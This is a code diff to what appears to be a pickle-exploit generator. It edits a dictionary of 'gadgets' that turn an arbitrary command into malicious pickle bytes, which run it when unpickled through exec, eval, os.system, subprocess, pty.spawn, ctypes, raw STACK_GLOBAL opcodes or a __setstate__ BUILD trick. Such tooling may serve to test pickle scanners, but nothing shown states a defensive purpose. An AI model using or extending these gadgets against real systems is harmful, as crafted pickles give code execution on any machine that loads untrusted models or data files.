@@ -85,7 +85,6 @@ Gadget = Callable[[str], bytes]
 GADGETS: dict[str, Gadget] = {
     "builtins.exec": lambda p: emit(Call(Ref("builtins", "exec"), (p, fresh()))),
     "builtins.eval": lambda p: emit(Call(Ref("builtins", "eval"), (line(p), fresh()))),
-    "__builtin__.eval of Python 2": lambda p: emit(Call(Ref("__builtin__", "eval"), (line(p), fresh()))),
     "os.system": lambda p: emit(Call(Ref("os", "system"), (shell(p),))),
     "posix.system": lambda p: emit(Call(Ref("posix", "system"), (shell(p),))),
     "subprocess.check_output": lambda p: emit(
@@ -93,7 +92,7 @@ GADGETS: dict[str, Gadget] = {
     ),
     "runpy._run_code": lambda p: emit(Call(Ref("runpy", "_run_code"), (p, fresh()))),
     "cProfile.run": lambda p: emit(Call(Ref("cProfile", "run"), (line(p),))),
-    "timeit.timeit": lambda p: emit(Call(Ref("timeit", "timeit"), (line(p), "pass", None, 1))),
+    "timeit.timeit": lambda p: emit(Call(Ref("timeit", "timeit"), (line(p), "pass", Ref("time", "perf_counter"), 1))),
     "pydoc.pipepager": lambda p: emit(Call(Ref("pydoc", "pipepager"), ("", shell(p)))),
     "pty.spawn": lambda p: emit(Call(Ref("pty", "spawn"), ([sys.executable, "-S", "-c", line(p)],))),
     "ctypes system": lambda p: emit(
@@ -122,6 +121,6 @@ GADGETS: dict[str, Gadget] = {
     "opcode STACK_GLOBAL": lambda p: emit("builtins") + emit("exec") + b"\x93(" + emit(p) + emit(fresh()) + b"tR",
     "__setstate__ by BUILD": lambda p: (
         emit(Call(Ref("functools", "partial"), (Ref("builtins", "print"),)))
-        + b"(" + emit(Ref("builtins", "exec")) + b"(" + emit(p) + b"t" + emit({}) + b"Ntb(tR"
+        + b"(" + emit(Ref("builtins", "exec")) + b"(" + emit(p) + emit(fresh()) + b"t" + emit({}) + b"Ntb(tR"
     ),
 }  # fmt: skip
